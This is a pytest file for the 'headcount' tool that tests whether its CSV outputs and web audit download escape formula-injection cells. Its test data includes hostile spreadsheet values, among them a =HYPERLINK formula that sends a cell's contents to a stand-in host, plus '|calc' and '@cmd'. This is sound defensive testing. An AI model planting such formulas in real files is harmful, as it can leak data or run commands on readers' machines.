"""No CSV headcount writes holds a cell a spreadsheet would run as a formula.

An agency whose employee ids, names, org codes, agencies, emails, payment ids, payee names,
campaign ids and check-in texts start with `=`, `+`, `-`, `@` goes through the real console
script: `verify`, `campaign create / ingest-mail / export`, `audit export` and `cases
import`; and the web app's audit download. Every CSV written is scanned (tests/csvscan.py),
the hostile values are checked to be there (escaped, not dropped), and the files that
headcount reads back (check-ins by `verify`, results by `cases import`) give back the
values exactly. headcount has no other CSV output: cases export letters (HTML, PDF), and
synth writes input data, not files for reviewers.
"""

from __future__ import annotations

import mailbox
import os
import shutil
import subprocess
import sys
from dataclasses import dataclass
from decimal import Decimal
from email.message import EmailMessage
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from builders import Agency
from csvscan import cells, formula_cells
from headcount.cases.models import CasePayment, Person
from headcount.contract.csvout import unescape_cell
from headcount.ingest import load_dataset
from headcount.store import Store
from headcount.web import create_app
from staff import csrf_of, sign_in

HEADCOUNT = str(Path(sys.executable).with_name("headcount"))
HYPERLINK = '=HYPERLINK("http://x?"&B2)'
SECRET = "formula-test-secret-" + "s" * 32
IDS = ("=E1", "+E2", "-E3", "@E4")
CAMPAIGN = "C9"  # a campaign headcount creates has a plain id; campaigns.csv may not
REPLIES = {  # work email -> the reply's lines, each a formula
    "+e2@agency.example.gov": [HYPERLINK, "+SUM(A1:A9)", "@cmd"],
    "-e3@agency.example.gov": ["-2+3", "|calc", "\uff1dSUM(A1)"],
}


@dataclass(frozen=True)
class World:
    root: Path
    data: Path
    results: Path
    exported: Path
    env: dict[str, str]


def run(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    full = {**os.environ, "COLUMNS": "200", "NO_COLOR": "1", **env}
    result = subprocess.run(
        [HEADCOUNT, *args], capture_output=True, text=True, env=full, timeout=600
    )
    assert result.returncode == 0, result.stderr
    return result


def _agency(folder: Path) -> Path:
    agency = Agency(folder)
    agency.employee("=E1", first_name=HYPERLINK, last_name="+Plus", org_code="=ORG",
                    work_email="=e1@agency.example.gov", separation_date="2025-02-01")  # fmt: skip
    two = agency.employee("+E2", last_name="-Minus", org_code="+ORG",
                          work_email="+e2@agency.example.gov", supervisor_id="=E1")  # fmt: skip
    agency.employee("-E3", last_name="@At", org_code="-ORG", work_email="-e3@agency.example.gov")
    agency.employee("@E4", agency="@AG", org_code="@ORG", last_name=HYPERLINK, ssn=two["ssn"])
    for employee_id in IDS:
        for k in range(10):
            agency.pay(employee_id, k, payment_id=f"{employee_id[0]}P{employee_id[1:]}-{k}")
    for k in range(4):  # paid, not in the roster
        agency.pay("-X9", k, payee_name=HYPERLINK, payment_id=f"-PX9-{k}")
    agency.campaign("=C1", "VA")
    agency.checkin("=E1", HYPERLINK + " after leaving", campaign_id="=C1")
    return agency.write()


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    root = tmp_path_factory.mktemp("formulas")
    env = {
        "HEADCOUNT_DATABASE_URL": f"sqlite:///{root / 'headcount.db'}",
        "HEADCOUNT_SECRET_KEY": SECRET,
        "HEADCOUNT_AUDIT_KEY": SECRET,
        "HEADCOUNT_PII_KEYRING_FILE": str(root / "keyring"),
    }
    data = _agency(root / "agency")
    results = root / "=results"  # the folder's name goes into the audit log
    run("verify", str(data), "--out", str(results), "-q", env=env)
    run("cases", "import", str(results), "--data", str(data), "--agency", "VA", env=env)
    run("campaign", "create", CAMPAIGN, "--roster", str(data), "--deadline", "2099-12-31",
        "--policy", "@AG=mandatory", env=env)  # fmt: skip
    box = mailbox.Maildir(root / "Maildir", create=True)
    for n, (sender, lines) in enumerate(REPLIES.items()):
        reply = EmailMessage()
        reply["From"], reply["Message-ID"] = sender, f"<reply-{n}@agency.example.gov>"
        reply.set_content("\n".join(lines))
        box.add(reply)
    box.close()
    ingested = run("campaign", "ingest-mail", CAMPAIGN, str(root / "Maildir"), env=env)
    assert f"{len(REPLIES)} accepted" in ingested.stdout
    run("campaign", "export", CAMPAIGN, "--out", str(root / "exported"), env=env)
    run("audit", "export", "--out", str(root / "audit.csv"), env=env)
    return World(root, data, results, root / "exported", env)


def _column(path: Path, name: str) -> list[str]:
    header, *rows = cells(path)
    return [row[header.index(name)] for row in rows]


def test_verify_results_hold_no_formula(world: World) -> None:
    written = {p.name for p in world.results.glob("*.csv")}
    assert {
        "findings.csv",
        "payees.csv",
        "finding_payments.csv",
        "finding_employees.csv",
    } <= written
    for name in written:
        assert formula_cells(world.results / name) == [], name
    payees = _column(world.results / "payees.csv", "employee_id")
    assert {f"'{e}" for e in (*IDS, "-X9")} <= set(payees)  # there, escaped
    rules = set(_column(world.results / "findings.csv", "rule"))
    assert {"PAID_AFTER_SEPARATION", "PAYEE_NOT_IN_ROSTER", "DUPLICATE_SSN"} <= rules
    assert "CHECKIN_FROM_INACTIVE" in rules
    assert "'+E2;@E4" in _column(world.results / "findings.csv", "employee_ids")
    assert "'=PE1-9" in _column(world.results / "finding_payments.csv", "payment_id")
    assert {"'+E2", "'@E4"} <= set(_column(world.results / "finding_employees.csv", "employee_id"))
    # Amounts are numbers, never escaped.
    for name, column in (("payees.csv", "total_paid"), ("findings.csv", "amount_at_risk")):
        assert all(Decimal(v) >= 0 for v in _column(world.results / name, column))


def test_findings_csv_holds_what_findings_parquet_holds(world: World) -> None:
    table = pq.read_table(world.results / "findings.parquet")
    written = [[unescape_cell(c) for c in row] for row in cells(world.results / "findings.csv")]
    assert written[0] == table.column_names
    expected = [["" if v is None else str(v) for v in row.values()] for row in table.to_pylist()]
    assert written[1:] == expected


def test_normal_data_gives_the_bytes_it_always_did(tmp_path: Path, synth_dataset) -> None:
    """findings.csv of a synthetic agency is DuckDB's plain COPY of findings.parquet."""
    out = tmp_path / "results"
    run("verify", str(synth_dataset.out_dir), "--out", str(out), "-q", env={})
    con = duckdb.connect()
    con.register("t", pq.read_table(out / "findings.parquet"))
    con.execute(f"COPY t TO '{tmp_path / 'plain.csv'}' (HEADER, DELIMITER ',', QUOTE '\"')")
    assert (out / "findings.csv").read_bytes() == (tmp_path / "plain.csv").read_bytes()


def test_checkin_export_holds_no_formula_and_reads_back(world: World) -> None:
    campaigns, checkins = world.exported / "campaigns.csv", world.exported / "checkins.csv"
    assert formula_cells(campaigns) == [] and formula_cells(checkins) == []
    assert set(_column(campaigns, "campaign_id")) == {CAMPAIGN}
    assert "'@AG" in _column(campaigns, "agency")
    assert set(_column(checkins, "work_email")) == {f"'{e}" for e in REPLIES}
    # What verify reads from the export is what the employees sent.
    folder = world.root / "readback"
    shutil.copytree(world.data, folder)
    for name in ("campaigns.csv", "checkins.csv"):
        shutil.copy(world.exported / name, folder / name)
    con = duckdb.connect()
    load_dataset(folder, con)
    got = con.execute(
        "SELECT campaign_id, employee_id, work_email, text FROM checkins ORDER BY employee_id"
    ).fetchall()
    assert got == [
        (CAMPAIGN, "+E2", "+e2@agency.example.gov", "\n".join(REPLIES["+e2@agency.example.gov"])),
        (CAMPAIGN, "-E3", "-e3@agency.example.gov", "\n".join(REPLIES["-e3@agency.example.gov"])),
    ]


def test_audit_export_holds_no_formula(world: World) -> None:
    assert formula_cells(world.root / "audit.csv") == []
    assert "'=results" in _column(world.root / "audit.csv", "target_id")


def test_the_web_audit_download_holds_no_formula(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HEADCOUNT_AUDIT_KEY", SECRET)
    store = Store.open(world.env["HEADCOUNT_DATABASE_URL"])
    try:
        with TestClient(create_app(store, SECRET.encode()), base_url="https://testserver") as c:
            sign_in(c, store, "auditor")
            page = c.get("/audit")
            download = c.post("/audit/export", data={"csrf_token": csrf_of(page.text)})
        assert download.status_code == 200, download.text
        assert download.headers["content-type"].startswith("text/csv")
        assert formula_cells(download.text) == []
        header, *rows = cells(download.text)
        assert "'=results" in {row[header.index("target_id")] for row in rows}
    finally:
        store.close()


def test_cases_import_reads_the_escaped_results_back(world: World) -> None:
    store = Store.open(world.env["HEADCOUNT_DATABASE_URL"])
    try:
        with store.begin() as s:
            people = set(s.scalars(select(Person.employee_id)))
            payments = set(s.scalars(select(CasePayment.payment_id)))
    finally:
        store.close()
    assert {"=E1", "+E2", "@E4", "-X9"} <= people  # everyone a finding names
    assert {"=PE1-9", "-PX9-0"} <= payments
    assert not any(v.startswith("'") for v in people | payments)
